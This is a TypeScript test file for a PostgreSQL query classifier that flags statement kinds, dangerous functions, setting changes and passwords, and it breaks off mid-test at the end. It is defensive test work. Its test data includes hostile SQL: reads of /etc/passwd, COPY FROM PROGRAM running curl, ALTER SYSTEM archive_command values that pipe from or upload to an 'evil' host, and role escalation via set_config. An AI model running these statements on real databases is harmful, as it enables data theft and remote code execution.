import t from 'tap';
import {
  literalShape,
  ClassifierCache,
  SQL_UNPARSEABLE,
  SqlParseError,
  classifierCache,
  classifyPrepared,
  classifyQuery,
  classifySql,
  fingerprint,
  initClassifier,
} from '../../protocols/postgres/classify.js';
import { namesCredential, PreparedCredentials, withoutArguments, withoutPassword } from '../../protocols/postgres/credentials.js';
import { useFingerprintKey } from '../../src/policy/fingerprint-key.js';
import { DANGEROUS_FUNCTIONS, isDangerousFunction } from '../../protocols/postgres/dangerous-functions.js';
import { UNKNOWN_SETTING, type SqlStatementFacts } from '../../src/policy/types.js';

await initClassifier();
await initClassifier(); // idempotent

/** The single statement of `sql`. */
function one(sql: string): SqlStatementFacts {
  const facts = classifySql(sql);
  if (facts.length !== 1) throw new Error(`expected one statement in ${sql}, got ${facts.length}`);
  return facts[0]!;
}

/** Per kind: statements that must produce it, and statements that must not. */
const KIND_CASES: Record<string, { yes: string[]; no: string[] }> = {
  select: {
    yes: ['SELECT 1', 'select * from t', 'VALUES (1)', 'WITH x AS (SELECT 1) SELECT * FROM x', 'TABLE t', "SELECT $$DROP TABLE t$$"],
    no: ['INSERT INTO t VALUES (1)', 'DELETE FROM t', 'DROP TABLE t', 'EXPLAIN SELECT 1'],
  },
  insert: {
    yes: ['INSERT INTO t VALUES (1)', 'WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i', 'MERGE INTO t USING s ON t.a = s.a WHEN NOT MATCHED THEN INSERT VALUES (1)'],
    no: ['SELECT 1', "SELECT 'INSERT INTO t VALUES (1)'"],
  },
  update: {
    yes: ['UPDATE t SET a = 1', 'INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2', 'SELECT * FROM (SELECT 1) s, LATERAL (SELECT 1) l WHERE EXISTS (SELECT 1) AND 1 IN (WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM u)'],
    no: ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', 'SELECT 1 FOR UPDATE'],
  },
  delete: {
    yes: ['DELETE FROM t', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'EXPLAIN ANALYZE DELETE FROM t', 'PREPARE p AS DELETE FROM t WHERE a = $1', 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u'],
    no: ['EXPLAIN DELETE FROM t', "SELECT 'DELETE FROM t'", 'EXECUTE p(1)'],
  },
  merge: { yes: ['MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE'], no: ['SELECT 1'] },
  truncate: { yes: ['TRUNCATE t', 'truncate table a, b CASCADE'], no: ['DELETE FROM t'] },
  create: {
    yes: ['CREATE TABLE t (a int)', 'CREATE INDEX i ON t (a)', 'CREATE TABLE x AS SELECT 1', 'SELECT * INTO x FROM y', 'CREATE VIEW v AS SELECT 1', 'CREATE EXTENSION dblink', 'CREATE ROLE r'],
    no: ['SELECT 1', 'ALTER TABLE t ADD COLUMN b int', "SELECT 'CREATE TABLE t (a int)'"],
  },
  'create:table': { yes: ['CREATE TABLE t (a int)', 'CREATE TABLE x AS SELECT 1', 'SELECT 1 INTO x', 'create temp table z (a int)'], no: ['CREATE VIEW v AS SELECT 1', 'CREATE INDEX i ON t (a)'] },
  'create:function': { yes: ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1'], no: ["CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'"] },
  'create:procedure': { yes: ["CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'"], no: ['CALL p()'] },
  'create:extension': { yes: ['CREATE EXTENSION IF NOT EXISTS dblink'], no: ['ALTER EXTENSION dblink UPDATE'] },
  'create:materialized_view': { yes: ['CREATE MATERIALIZED VIEW m AS SELECT 1'], no: ['CREATE VIEW v AS SELECT 1'] },
  'create:schema': { yes: ['CREATE SCHEMA s'], no: ['DROP SCHEMA s'] },
  'create:trigger': { yes: ['CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()'], no: ['DROP TRIGGER tr ON t'] },
  'create:database': { yes: ['CREATE DATABASE d'], no: ['DROP DATABASE d'] },
  alter: { yes: ['ALTER TABLE t ADD COLUMN b int', 'ALTER ROLE bob NOSUPERUSER', 'ALTER SYSTEM SET work_mem = 1', 'ALTER TABLE t RENAME TO u', 'ALTER TABLE t OWNER TO bob'], no: ['CREATE TABLE t (a int)'] },
  'alter:table': { yes: ['ALTER TABLE t ADD COLUMN b int', 'ALTER TABLE t RENAME COLUMN a TO b', 'ALTER TABLE t SET SCHEMA s'], no: ['ALTER INDEX i RENAME TO j', 'ALTER VIEW v RENAME TO w'] },
  'alter:system': { yes: ["ALTER SYSTEM SET listen_addresses = '*'", 'ALTER SYSTEM RESET ALL'], no: ['SET work_mem = 1'] },
  drop: { yes: ['DROP TABLE t', 'DROP INDEX i', 'DROP SCHEMA s CASCADE', 'DROP DATABASE d', 'DROP ROLE r', 'DROP FUNCTION f()', 'DROP OWNED BY bob'], no: ["SELECT 'DROP TABLE t'", 'SELECT $$DROP TABLE t$$', 'DO $x$ BEGIN EXECUTE \'DROP TABLE t\'; END $x$', 'TRUNCATE t'] },
  'drop:table': { yes: ['DROP TABLE t', 'drop table if exists a, b cascade', '/* x */ DROP /**/ TABLE t', '-- x\nDROP TABLE t', 'dRoP tAbLe t'], no: ['DROP VIEW v', 'DROP INDEX i'] },
  'drop:index': { yes: ['DROP INDEX i', 'DROP INDEX CONCURRENTLY IF EXISTS s.i'], no: ['DROP TABLE t'] },
  'drop:schema': { yes: ['DROP SCHEMA s CASCADE'], no: ['DROP TABLE s.t'] },
  grant: { yes: ['GRANT SELECT ON t TO bob', 'GRANT admin TO bob', 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob'], no: ['REVOKE SELECT ON t FROM bob', 'REVOKE admin FROM bob'] },
  revoke: { yes: ['REVOKE SELECT ON t FROM bob', 'REVOKE admin FROM bob'], no: ['GRANT SELECT ON t TO bob'] },
  role: {
    yes: ['CREATE ROLE r', 'CREATE USER u', 'CREATE GROUP g', 'ALTER ROLE bob SUPERUSER', 'ALTER USER bob PASSWORD NULL', "ALTER ROLE bob SET client_encoding = 'SJIS'", 'DROP ROLE r', 'DROP USER IF EXISTS u', 'GRANT admin TO bob', 'REVOKE admin FROM bob', 'ALTER ROLE bob RENAME TO rob', 'REASSIGN OWNED BY a TO b'],
    no: ['GRANT SELECT ON t TO bob', 'SET ROLE bob', 'SELECT current_user'],
  },
  'create:role': { yes: ['CREATE ROLE r LOGIN', 'CREATE USER u'], no: ['ALTER ROLE r LOGIN'] },
  'alter:role': { yes: ['ALTER ROLE r LOGIN', "ALTER ROLE bob SET search_path = x", 'ALTER ROLE bob RENAME TO rob'], no: ['CREATE ROLE r'] },
  'drop:role': { yes: ['DROP ROLE r'], no: ['DROP TABLE r'] },
  copy_to: { yes: ['COPY t TO STDOUT', 'COPY (SELECT 1) TO STDOUT', "COPY t TO PROGRAM 'cat'", "COPY t TO '/tmp/x'"], no: ['COPY t FROM STDIN'] },
  copy_from: { yes: ['COPY t FROM STDIN', "COPY t FROM PROGRAM 'id'"], no: ['COPY t TO STDOUT'] },
  copy_program: { yes: ["COPY t TO PROGRAM 'x'", "copy t from program 'curl x'"], no: ['COPY t TO STDOUT', "COPY t FROM '/tmp/x'"] },
  copy_file: { yes: ["COPY t FROM '/etc/passwd'", "COPY t TO '/tmp/x'"], no: ['COPY t FROM STDIN', "COPY t TO PROGRAM 'x'"] },
  do: { yes: ["DO $x$ BEGIN EXECUTE 'DROP TABLE t'; END $x$", "DO 'BEGIN END'", "DO LANGUAGE plpgsql 'BEGIN END'"], no: ['SELECT 1'] },
  call: { yes: ['CALL p(1)', 'call s.p()'], no: ['SELECT p(1)'] },
  set: { yes: ['SET work_mem = 1', 'SET LOCAL search_path = a', 'RESET work_mem', 'RESET ALL', 'SET ROLE bob', "SET NAMES 'UTF8'", 'SET CONSTRAINTS ALL DEFERRED'], no: ['SHOW work_mem', "SELECT set_config('work_mem', '1', false)"] },
  set_role: { yes: ['SET ROLE bob', 'RESET ROLE', 'SET LOCAL ROLE NONE'], no: ['SET SESSION AUTHORIZATION bob', 'SET work_mem = 1'] },
  session_authorization: { yes: ['SET SESSION AUTHORIZATION bob', 'RESET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION DEFAULT'], no: ['SET ROLE bob'] },
  reset: { yes: ['RESET ALL', 'RESET work_mem', 'RESET ROLE'], no: ['SET work_mem = 1'] },
  prepare: { yes: ['PREPARE p AS SELECT 1', 'PREPARE q(int) AS DELETE FROM t WHERE a = $1'], no: ['EXECUTE p', 'DEALLOCATE p'] },
  execute: { yes: ['EXECUTE p', 'EXECUTE p(1, 2)', 'EXPLAIN ANALYZE EXECUTE p'], no: ['PREPARE p AS SELECT 1'] },
  deallocate: { yes: ['DEALLOCATE p', 'DEALLOCATE ALL'], no: ['EXECUTE p'] },
  listen: { yes: ['LISTEN c'], no: ['UNLISTEN c', 'NOTIFY c'] },
  unlisten: { yes: ['UNLISTEN c', 'UNLISTEN *'], no: ['LISTEN c'] },
  notify: { yes: ['NOTIFY c', "NOTIFY c, 'x'", "SELECT pg_notify('c', 'x')"], no: ['LISTEN c'] },
  explain: { yes: ['EXPLAIN SELECT 1', 'EXPLAIN DELETE FROM t', 'EXPLAIN (ANALYZE false) DELETE FROM t', 'EXPLAIN (ANALYZE off) DELETE FROM t'], no: ['EXPLAIN ANALYZE DELETE FROM t', 'SELECT 1'] },
  explain_analyze: { yes: ['EXPLAIN ANALYZE DELETE FROM t', 'EXPLAIN (ANALYZE) SELECT 1', 'EXPLAIN (ANALYZE true, VERBOSE) UPDATE t SET a = 1', 'EXPLAIN (ANALYZE 1) SELECT 1'], no: ['EXPLAIN DELETE FROM t', 'EXPLAIN (VERBOSE) SELECT 1'] },
  transaction: { yes: ['BEGIN', 'START TRANSACTION READ ONLY', 'COMMIT', 'ROLLBACK', 'SAVEPOINT s', 'RELEASE SAVEPOINT s', 'ROLLBACK TO SAVEPOINT s', "PREPARE TRANSACTION 'x'", "COMMIT PREPARED 'x'", 'END', 'ABORT', 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE'], no: ['SELECT 1'] },
  vacuum: { yes: ['VACUUM', 'VACUUM FULL t', 'VACUUM (ANALYZE) t'], no: ['ANALYZE t'] },
  analyze: { yes: ['ANALYZE t', 'ANALYZE', 'VACUUM ANALYZE t'], no: ['VACUUM t', 'EXPLAIN ANALYZE SELECT 1'] },
  lock: { yes: ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'LOCK t'], no: ['SELECT * FROM t FOR UPDATE'] },
  show: { yes: ['SHOW work_mem', 'SHOW ALL'], no: ["SELECT current_setting('work_mem')"] },
  discard: { yes: ['DISCARD ALL', 'DISCARD PLANS', 'DISCARD TEMP'], no: ['RESET ALL'] },
  load: { yes: ["LOAD 'auto_explain'"], no: ['SELECT 1'] },
  comment: { yes: ["COMMENT ON TABLE t IS 'x'", 'COMMENT ON COLUMN t.a IS NULL'], no: ['SELECT 1 -- comment'] },
  security_label: { yes: ["SECURITY LABEL ON TABLE t IS 'x'"], no: ["COMMENT ON TABLE t IS 'x'"] },
  refresh: { yes: ['REFRESH MATERIALIZED VIEW m', 'REFRESH MATERIALIZED VIEW CONCURRENTLY s.m'], no: ['CREATE MATERIALIZED VIEW m AS SELECT 1'] },
  reindex: { yes: ['REINDEX TABLE t', 'REINDEX DATABASE d'], no: ['CREATE INDEX i ON t (a)'] },
  cluster: { yes: ['CLUSTER t USING i', 'CLUSTER'], no: ['VACUUM t'] },
  checkpoint: { yes: ['CHECKPOINT'], no: ['SELECT 1'] },
  cursor: { yes: ['DECLARE c CURSOR FOR SELECT 1', 'FETCH 10 FROM c', 'MOVE NEXT IN c', 'CLOSE c', 'CLOSE ALL'], no: ['SELECT 1'] },
};

t.test('kinds: statements that must and must not produce each kind', async (t) => {
  for (const [kind, { yes, no }] of Object.entries(KIND_CASES)) {
    for (const sql of yes) {
      t.ok(one(sql).kinds.includes(kind), `${JSON.stringify(sql)} is ${kind}`, { kinds: one(sql).kinds });
    }
    for (const sql of no) {
      t.notOk(one(sql).kinds.includes(kind), `${JSON.stringify(sql)} is not ${kind}`, { kinds: one(sql).kinds });
    }
  }
});

t.test('every statement has at least one kind; object kinds carry their bare form', async (t) => {
  const all = Object.values(KIND_CASES).flatMap((c) => [...c.yes, ...c.no]);
  for (const sql of all) {
    const { kinds } = one(sql);
    t.ok(kinds.length > 0, `${sql} has kinds`);
    for (const k of kinds) {
      if (k.includes(':')) t.ok(kinds.includes(k.split(':')[0]!), `${sql}: ${k} comes with its bare form`);
    }
  }
  t.same(one('CREATE ACCESS METHOD a TYPE TABLE HANDLER h').kinds, ['create', 'create:access_method']);
});

t.test('exact facts for the well-known bypass families', async (t) => {
  const cases: [string, Partial<SqlStatementFacts>][] = [
    ['/* x */ DROP /**/ TABLE t', { kinds: ['drop', 'drop:table'], tables: ['t'] }],
    ['-- x\nDROP TABLE t', { kinds: ['drop', 'drop:table'], tables: ['t'] }],
    ['dRoP tAbLe T', { kinds: ['drop', 'drop:table'], tables: ['t'] }],
    ['SELECT $$DROP TABLE t$$', { kinds: ['select'], tables: [] }],
    ["SELECT 'DROP TABLE t'", { kinds: ['select'], tables: [] }],
    ["DO $x$ BEGIN EXECUTE 'DROP TABLE t'; END $x$", { kinds: ['do'], tables: [] }],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', { kinds: ['select', 'delete'], tables: ['t'], withoutWhere: true }],
    ['EXPLAIN ANALYZE DELETE FROM t', { kinds: ['explain_analyze', 'delete'], tables: ['t'], withoutWhere: true }],
    ['EXPLAIN DELETE FROM t', { kinds: ['explain'], tables: ['t'], withoutWhere: false }],
    ['DROP TABLE "Users"', { tables: ['Users'] }],
    // db.schema.table: the database part (only the current one is allowed) is not part of the name.
    ['SELECT * FROM app.public.secrets', { tables: ['public.secrets'] }],
    ['DROP TABLE app.public.t, app.s.u', { tables: ['public.t', 's.u'] }],
    ["SELECT app.pg_catalog.pg_read_file('/etc/passwd')", { functions: ['pg_catalog.pg_read_file'], dangerousFunctions: ['pg_catalog.pg_read_file'] }],
    ['DROP TABLE U&"d\\0061ta"', { tables: ['data'] }],
    ['SELECT * FROM U&"!0075sers" UESCAPE \'!\'', { tables: ['users'] }],
    ['SELECT * FROM public.users', { tables: ['public.users'] }],
    ['SELECT * FROM "Public"."Users"', { tables: ['Public.Users'] }],
    ['SELECT * FROM PUBLIC.USERS', { tables: ['public.users'] }],
    ['SELECT * FROM db.s.t', { tables: ['s.t'] }],
    ['COPY (SELECT * FROM t) TO STDOUT', { kinds: ['copy_to', 'select'], tables: ['t'] }],
    ["COPY t TO PROGRAM 'x'", { kinds: ['copy_to', 'copy_program'], tables: ['t'] }],
    ['GRANT admin TO bob', { kinds: ['role', 'grant'] }],
    ['GRANT SELECT ON t TO bob', { kinds: ['grant'], tables: ['t'] }],
    ["ALTER ROLE bob SET client_encoding = 'SJIS'", { kinds: ['alter', 'alter:role', 'role'], settings: ['client_encoding'] }],
    ['CREATE TABLE x AS SELECT * FROM y', { kinds: ['create', 'create:table', 'select'], tables: ['y', 'x'] }],
    ['PREPARE p AS DELETE FROM t WHERE a = $1', { kinds: ['prepare', 'delete'], tables: ['t'], withoutWhere: false }],
    ['EXECUTE p', { kinds: ['execute'], tables: [] }],
    ['INSERT INTO t VALUES (1)', { kinds: ['insert'], tables: ['t'] }],
    ['INSERT INTO t SELECT * FROM u RETURNING now()', { kinds: ['insert', 'select'], tables: ['t', 'u'], functions: ['now'] }],
  ];
  for (const [sql, want] of cases) {
    const got = one(sql);
    for (const [key, value] of Object.entries(want)) {
      t.same(got[key as keyof SqlStatementFacts], value, `${JSON.stringify(sql)}: ${key}`);
    }
  }
});

t.test('tables: everywhere in the tree, CTE names are not tables', async (t) => {
  t.same(one('SELECT * FROM a JOIN b ON true WHERE x IN (SELECT y FROM c) AND EXISTS (SELECT 1 FROM d)').tables, ['a', 'b', 'c', 'd']);
  t.same(one('UPDATE t SET a = 1 FROM u WHERE t.id = u.id').tables, ['t', 'u']);
  t.same(one('DELETE FROM t USING u WHERE t.id = u.id').tables, ['t', 'u']);
  t.same(one('TRUNCATE a, s.b').tables, ['a', 's.b']);
  t.same(one('LOCK TABLE a, b').tables, ['a', 'b']);
  t.same(one('DROP TABLE a, s.b').tables, ['a', 's.b']);
  t.same(one('ALTER TABLE s.t ADD COLUMN c int').tables, ['s.t']);
  t.same(one('COPY s.t FROM STDIN').tables, ['s.t']);
  t.same(one('VACUUM a, b').tables, ['a', 'b']);
  t.same(one('DROP SCHEMA s').tables, []);
  // A CTE reference is not a table; the same name inside a non-recursive CTE's own body is.
  t.same(one('WITH d AS (SELECT 1) SELECT * FROM d').tables, []);
  t.same(one('WITH users AS (SELECT * FROM users) SELECT * FROM users').tables, ['users']);
  t.same(one('WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b').tables, []);
  t.same(one('WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b').tables, ['a']);
  t.same(one('WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r').tables, []);
  t.same(one('WITH x AS (SELECT 1) SELECT * FROM public.x').tables, ['public.x']);
  t.same(one('WITH t AS (SELECT 1) DELETE FROM t').tables, ['t'], 'a DML target is never a CTE');
  t.same(one('SELECT * FROM (WITH d AS (SELECT 1) SELECT * FROM d) s, d').tables, ['d'], 'CTE scope is lexical');
});

t.test('functions and the dangerous set', async (t) => {
  let f = one("select pg_catalog.pg_read_file('x')");
  t.same(f.functions, ['pg_catalog.pg_read_file']);
  t.same(f.dangerousFunctions, ['pg_catalog.pg_read_file']);

  f = one("SELECT * FROM pg_ls_dir('.') WHERE lower(x) = 'a' AND lo_import('/etc/passwd') > 0");
  t.same(f.functions, ['pg_ls_dir', 'lower', 'lo_import']);
  t.same(f.dangerousFunctions, ['pg_ls_dir', 'lo_import']);

  for (const sql of [
    "SELECT dblink_exec('host=x', 'DROP TABLE t')",
    "SELECT * FROM public.dblink('x', 'select 1') AS t(a int)",
    'SELECT pg_terminate_backend(123)',
    'SELECT pg_cancel_backend(pid) FROM pg_stat_activity',
    'SELECT pg_reload_conf()',
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT query_to_xml('select * from secrets', true, false, '')",
    "SELECT ts_rewrite('x'::tsquery, 'SELECT ''x''::tsquery, to_tsquery(''simple'', quote_literal(ssn)) FROM secrets')",
    'SELECT ts_rewrite($1, $2)',
    "SELECT * FROM crosstab('select row_name, cat, value from secrets') AS t(r text, a text)",
    "SELECT * FROM connectby('secrets', 'id', 'parent', '1', 0) AS t(id text, parent text, level int)",
    "INSERT INTO t VALUES (pg_read_binary_file('/etc/passwd'))",
    "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
    'WITH x AS (SELECT pg_promote()) SELECT 1',
    'EXPLAIN SELECT pg_read_file($1)',
  ]) {
    t.ok(one(sql).dangerousFunctions.length > 0, `${sql} calls a dangerous function`);
  }
  for (const sql of ['SELECT now()', "SELECT current_setting('role')", 'SELECT "PG_READ_FILE"(1)', "SELECT 'pg_read_file(x)'"]) {
    t.same(one(sql).dangerousFunctions, [], `${sql} calls no dangerous function`);
  }
  t.same(one('SELECT "PG_READ_FILE"(1)').functions, ['PG_READ_FILE'], 'quoted names kept exactly');
  t.same(one('CALL s.p(lower($1))').functions, ['s.p', 'lower']);

  t.ok(isDangerousFunction('pg_read_file'));
  t.ok(isDangerousFunction('dblink_some_new_function'));
  t.notOk(isDangerousFunction('set_config'), 'set_config depends on its argument');
  t.ok(DANGEROUS_FUNCTIONS.size > 40);
});

t.test('set_config: dangerous for role/session settings or a non-constant name', async (t) => {
  let f = one("select set_config('role','postgres',false)");
  t.same(f.dangerousFunctions, ['set_config']);
  t.same(f.settings, ['role']);

  f = one("select set_config('application_name','x',false)");
  t.same(f.dangerousFunctions, []);
  t.same(f.settings, ['application_name']);

  for (const [sql, setting] of [
    ["SELECT pg_catalog.set_config('SESSION_AUTHORIZATION', 'x', false)", 'session_authorization'],
    ["SELECT set_config('client_encoding'::text, 'SJIS', false)", 'client_encoding'],
    ["SELECT set_config('standard_conforming_strings', 'off', true)", 'standard_conforming_strings'],
    ["SELECT set_config(is_local => false, new_value => 'x', setting_name => 'role')", 'role'],
  ] as const) {
    f = one(sql);
    t.ok(f.dangerousFunctions.length === 1, `${sql} is dangerous`);
    t.same(f.settings, [setting]);
  }
  for (const sql of ["SELECT set_config('ro' || 'le', 'x', false)", "SELECT set_config($1, 'x', false)", "SELECT set_config(name, 'x', false) FROM t", 'SELECT set_config()']) {
    f = one(sql);
    t.same(f.dangerousFunctions, ['set_config'], `${sql}: non-constant name is dangerous`);
    t.same(f.settings, [UNKNOWN_SETTING], `${sql}: changes a setting it names at run time`);
  }
  f = one("UPDATE pg_settings SET setting = 'x' WHERE name = 'role'");
  t.same(f.dangerousFunctions, ['set_config'], 'UPDATE pg_settings runs set_config through its rule');
  t.same(f.settings, [UNKNOWN_SETTING], 'which setting, the WHERE clause says at run time');
});

t.test('settings', async (t) => {
  const cases: [string, string[]][] = [
    ['SET work_mem = 1', ['work_mem']],
    ['SET SESSION Search_Path TO a, b', ['search_path']],
    ['RESET work_mem', ['work_mem']],
    ['RESET ALL', ['*']],
    ['SET ROLE bob', ['role']],
    ['SET SESSION AUTHORIZATION bob', ['session_authorization']],
    ["SET NAMES 'SJIS'", ['client_encoding']],
    ["SET TIME ZONE 'UTC'", ['timezone']],
    ['SET standard_conforming_strings = off', ['standard_conforming_strings']],
    ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY', ['transaction_isolation', 'transaction_read_only']],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', ['default_transaction_read_only']],
    ["ALTER ROLE bob SET client_encoding = 'SJIS'", ['client_encoding']],
    ['ALTER ROLE bob RESET ALL', ['*']],
    ["ALTER DATABASE d SET standard_conforming_strings = 'off'", ['standard_conforming_strings']],
    ['ALTER SYSTEM SET work_mem = 1', ['work_mem']],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = x AS 'SELECT 1'", ['search_path']],
    ['DISCARD ALL', ['*']],
    ['SELECT 1', []],
    ['SHOW client_encoding', []],
  ];
  for (const [sql, settings] of cases) t.same(one(sql).settings, settings, sql);
  t.same(one("ALTER DATABASE d SET x = 'y'").kinds, ['alter', 'alter:database']);
  t.notOk(one("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = x AS 'SELECT 1'").kinds.includes('set'), 'a function SET clause is not a SET statement');
});

t.test('withoutWhere', async (t) => {
  const yes = ['UPDATE t SET a = 1', 'DELETE FROM t', 'DELETE FROM t USING u', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'EXPLAIN ANALYZE UPDATE t SET a = 1'];
  const no = ['UPDATE t SET a = 1 WHERE id = 2', 'DELETE FROM t WHERE CURRENT OF c', 'DELETE FROM t WHERE true', 'EXPLAIN DELETE FROM t', 'SELECT * FROM t', 'INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1'];
  for (const sql of yes) t.equal(one(sql).withoutWhere, true, sql);
  for (const sql of no) t.equal(one(sql).withoutWhere, false, sql);
});

t.test('multi-statement strings: one facts object per statement, in order, with its own text', async (t) => {
  const facts = classifySql('SELECT 1; DROP TABLE t');
  t.equal(facts.length, 2);
  t.same(facts.map((f) => f.kinds), [['select'], ['drop', 'drop:table']]);
  t.same(facts.map((f) => f.text), ['SELECT 1', 'DROP TABLE t']);

  const utf8 = classifySql("SELECT 'é€😀' AS x;\n  INSERT INTO \"tâble\" VALUES ('ü');  DELETE FROM t");
  t.same(utf8.map((f) => f.text), ["SELECT 'é€😀' AS x", 'INSERT INTO "tâble" VALUES (\'ü\')', 'DELETE FROM t'], 'byte offsets mapped back to characters');
  t.same(utf8[1]!.tables, ['tâble']);

  t.same(classifySql(''), []);
  t.same(classifySql('   \n'), []);
  t.same(classifySql('-- only a comment'), []);
  t.same(classifySql('/* c */ ;;'), []);
  t.equal(classifySql('SELECT 1;;SELECT 2;').length, 2);
  t.equal(one('SELECT 1;').text, 'SELECT 1');
  t.equal(one('  /* lead */ SELECT 1  ').text, '/* lead */ SELECT 1');
});

t.test('unparseable SQL: SqlParseError with the parser message and position', async (t) => {
  const err = t.throws(() => classifySql('SELECT * FORM t')) as SqlParseError;
  t.type(err, SqlParseError);
  t.equal(err.code, SQL_UNPARSEABLE);
  t.equal(err.message, 'syntax error at or near "FORM"');
  t.equal(err.position, 10, '1-based character position, as ErrorResponse P');
  t.equal(err.sqlState, '42601');

  const multibyte = t.throws(() => classifySql("SELECT 'é'; selec 1")) as SqlParseError;
  t.equal(multibyte.position, 13, 'characters, not bytes');

  t.throws(() => classifySql('SELECT 1; DROP TABLE'), SqlParseError, 'one bad statement fails the whole message');
  t.throws(() => classifySql("SELECT 'unterminated"), SqlParseError);
  t.throws(() => classifySql('SELECT 1\0; DROP TABLE t'), SqlParseError, 'zero byte refused');
  // cached errors are thrown again
  t.throws(() => classifySql('SELECT * FORM t'), { message: 'syntax error at or near "FORM"' });
});

t.test('classifyPrepared', async (t) => {
  const f = classifyPrepared('DELETE FROM t WHERE id = $1');
  t.same(f.kinds, ['delete']);
  t.equal(f.withoutWhere, false);
  t.same(classifyPrepared('SELECT 1;').kinds, ['select']);
  t.throws(() => classifyPrepared('SELECT 1; SELECT 2'), {
    message: 'cannot insert multiple commands into a prepared statement',
    code: SQL_UNPARSEABLE,
  });
  t.throws(() => classifyPrepared('SELEC 1'), SqlParseError);
  t.same(classifyPrepared('').kinds, ['empty']);
  t.same(classifyPrepared('-- nothing').kinds, ['empty']);
});

t.test('fingerprint: constants, whitespace, case and comments do not matter; identifiers do', async (t) => {
  const fp = (sql: string) => fingerprint(one(sql));
  const a = fp('SELECT * FROM users WHERE id = 1');
  t.match(a, /^[0-9a-f]{64}$/);
  t.equal(fp("select *\n  from USERS /* c */ where id=42"), a);
  t.equal(fp('SELECT * FROM users WHERE id = 1'), a, 'stable');
  t.not(fp('SELECT * FROM accounts WHERE id = 1'), a);
  t.not(fp('SELECT * FROM users WHERE name = 1'), a);
  t.not(fp("select set_config('role','a',false)"), fp("select set_config('application_name','a',false)"));
  t.not(fp("select pg_read_file('/a')"), fp("select pg_read_file('/b')"), 'dangerous-function arguments kept');
  t.equal(fp('SELECT $1::int, ARRAY[1, 2]'), fp("SELECT $1::int, ARRAY[3, 4]"));
  t.not(fp('CREATE ROLE r'), fp('CREATE ROLE s'));
  // Where a constant says what the statement does, a window for one value does not cover another.
  t.not(fp('SET ROLE reporting'), fp('SET ROLE postgres'), 'SET ROLE');
  t.not(fp("SET search_path = app"), fp("SET search_path = evil"), 'SET');
  t.not(fp("ALTER SYSTEM SET archive_command = 'true'"), fp("ALTER SYSTEM SET archive_command = 'curl evil | sh'"), 'ALTER SYSTEM');
  t.not(fp("ALTER ROLE bob SET role = 'a'"), fp("ALTER ROLE bob SET role = 'b'"), 'ALTER ROLE ... SET');
  t.not(fp("ALTER ROLE bob CONNECTION LIMIT 1"), fp("ALTER ROLE bob CONNECTION LIMIT 2"), 'role options');
  // A password is replaced by a marker: the API shows fingerprints, and an unkeyed hash of it could be brute-forced.
  t.equal(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE bob PASSWORD 'correct horse'"), 'the password is not in the fingerprint');
  t.equal(fp("CREATE ROLE bob LOGIN ENCRYPTED PASSWORD 'x'"), fp("CREATE ROLE bob LOGIN PASSWORD 'y'"));
  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp('ALTER ROLE bob PASSWORD NULL'), 'PASSWORD NULL removes the password: another statement');
  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE alice PASSWORD 'x'"), 'the role still counts');
  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE bob PASSWORD 'x' VALID UNTIL 'infinity'"), 'and the other options');
  t.equal(
    fp("CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'x')"),
    fp("CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'y')"),
    "a user mapping's password neither",
  );
  // A connection string is kept whole (what follows its password may point it elsewhere), behind the key.
  t.not(fp("CREATE SUBSCRIPTION s CONNECTION 'host=h password=x' PUBLICATION p"), fp("CREATE SUBSCRIPTION s CONNECTION 'host=h password=x host=evil' PUBLICATION p"));
  t.not(fp("SELECT dblink_connect('postgresql://u:x@h/db')"), fp("SELECT dblink_connect('postgresql://u:x@evil/db')"));
  t.not(fp("ALTER SYSTEM SET archive_command = 'curl -T %p https://u:a@backup/%f'"), fp("ALTER SYSTEM SET archive_command = 'curl -T %p https://u:b@evil/%f'"));
  // a multi-statement member fingerprints like the same statement sent alone
  t.equal(fingerprint(classifySql('SELECT 1; SELECT * FROM users WHERE id = 7')[1]!), a);
});

t.test('namesCredential: the statements whose text may hold a password', async (t) => {
  const names = (sql: string) => namesCredential(one(sql));
  for (const sql of [
    "CREATE ROLE r PASSWORD 'x'",
    "ALTER USER u WITH ENCRYPTED PASSWORD 'x'",
    "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'x')",
    "ALTER USER MAPPING FOR app SERVER remote OPTIONS (SET password 'x')",
    "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'h')",
    "ALTER SERVER remote OPTIONS (ADD password 'x')",
